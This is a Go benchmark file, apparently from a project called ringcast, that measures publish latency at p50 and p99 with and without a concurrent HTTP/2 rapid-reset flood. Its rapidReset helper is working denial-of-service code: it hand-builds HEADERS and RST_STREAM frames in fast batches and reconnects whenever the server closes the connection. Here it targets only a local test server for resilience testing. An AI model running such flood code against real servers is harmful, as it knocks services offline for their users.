package app_test

import (
	"context"
	"encoding/binary"
	"io"
	"net"
	"slices"
	"sync/atomic"
	"testing"
	"time"

	"connectrpc.com/connect"
	"google.golang.org/protobuf/types/known/structpb"

	"github.com/ringcast/ringcast/clients/go/ringcast"
	ringcastv1 "github.com/ringcast/ringcast/gen/go/ringcast/v1"
	"github.com/ringcast/ringcast/server/ringtest"
)

// h2frame appends one HTTP/2 frame.
func h2frame(dst []byte, typ, flags byte, stream uint32, payload []byte) []byte {
	dst = append(dst, byte(len(payload)>>16), byte(len(payload)>>8), byte(len(payload)), typ, flags)
	dst = binary.BigEndian.AppendUint32(dst, stream&0x7fffffff)
	return append(dst, payload...)
}

// hpackLiteral appends a header as an HPACK literal without indexing, new
// name, no Huffman coding (names and values under 127 bytes).
func hpackLiteral(dst []byte, name, value string) []byte {
	dst = append(dst, 0x00, byte(len(name)))
	dst = append(dst, name...)
	dst = append(dst, byte(len(value)))
	return append(dst, value...)
}

// rapidReset opens an h2c connection and, until ctx ends, opens streams
// (HEADERS of a Publish) and resets each at once (RST_STREAM CANCEL), in
// batches, as fast as the connection takes them; when the server closes
// the connection (GOAWAY or not) it opens another. It counts the resets
// sent and the connections the server closed.
func rapidReset(ctx context.Context, addr string, resets, closed *atomic.Int64) {
	var block []byte
	block = hpackLiteral(block, ":method", "POST")
	block = hpackLiteral(block, ":scheme", "http")
	block = hpackLiteral(block, ":authority", "x")
	block = hpackLiteral(block, ":path", "/ringcast.v1.EventService/Publish")
	block = hpackLiteral(block, "content-type", "application/proto")
	rst := binary.BigEndian.AppendUint32(nil, 0x8) // CANCEL
	for ctx.Err() == nil {
		c, err := net.Dial("tcp", addr)
		if err != nil {
			return
		}
		go func() { _, _ = io.Copy(io.Discard, c) }() // read (and drop) what the server sends
		buf := []byte("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n")
		buf = h2frame(buf, 0x4, 0, 0, nil) // SETTINGS
		if _, err := c.Write(buf); err != nil {
			c.Close()
			continue
		}
		stream := uint32(1)
		for ctx.Err() == nil {
			buf = buf[:0]
			for range 64 {
				buf = h2frame(buf, 0x1, 0x4, stream, block) // HEADERS, END_HEADERS
				buf = h2frame(buf, 0x3, 0, stream, rst)     // RST_STREAM
				stream += 2
			}
			if _, err := c.Write(buf); err != nil {
				closed.Add(1)
				break
			}
			resets.Add(64)
			if stream > 1<<30 {
				break
			}
		}
		c.Close()
	}
}

// BenchmarkPublishUnderRapidReset measures one publisher's latency (p50 and
// p99 per publish, over Connect on HTTP/1.1) on its own and while another
// connection does an HTTP/2 rapid reset against the same server. Compare
// the two p99s (docs/limits.md); resets/s is the attacker's pace.
//
//	go test ./server/app -run '^$' -bench PublishUnderRapidReset -benchtime 2000x
func BenchmarkPublishUnderRapidReset(b *testing.B) {
	for _, attack := range []bool{false, true} {
		name := "baseline"
		if attack {
			name = "rapid-reset"
		}
		b.Run(name, func(b *testing.B) {
			srv := ringtest.Start(b, ringtest.Config())
			c := srv.Client(ringcast.ProtocolConnect)
			ctx, cancel := context.WithCancel(context.Background())
			var resets, closed atomic.Int64
			done := make(chan struct{})
			if attack {
				go func() { defer close(done); rapidReset(ctx, srv.Addr, &resets, &closed) }()
				time.Sleep(200 * time.Millisecond) // let it get going
			} else {
				close(done)
			}
			d, _ := structpb.NewStruct(map[string]any{"n": 1})
			lat := make([]time.Duration, 0, b.N)
			b.ResetTimer()
			start := time.Now()
			for range b.N {
				t0 := time.Now()
				_, err := c.Publish(context.Background(), connect.NewRequest(&ringcastv1.PublishRequest{Facts: []*ringcastv1.Fact{{Topic: "a", Type: "t", Payload: &ringcastv1.Fact_Data{Data: d}}}}))
				if err != nil {
					b.Fatal(err)
				}
				lat = append(lat, time.Since(t0))
			}
			elapsed := time.Since(start)
			b.StopTimer()
			cancel()
			<-done
			slices.Sort(lat)
			b.ReportMetric(float64(lat[len(lat)/2].Microseconds()), "p50-µs")
			b.ReportMetric(float64(lat[len(lat)*99/100].Microseconds()), "p99-µs")
			if attack {
				b.ReportMetric(float64(resets.Load())/elapsed.Seconds(), "resets/s")
				b.ReportMetric(float64(closed.Load()), "conns-closed")
			}
		})
	}
}
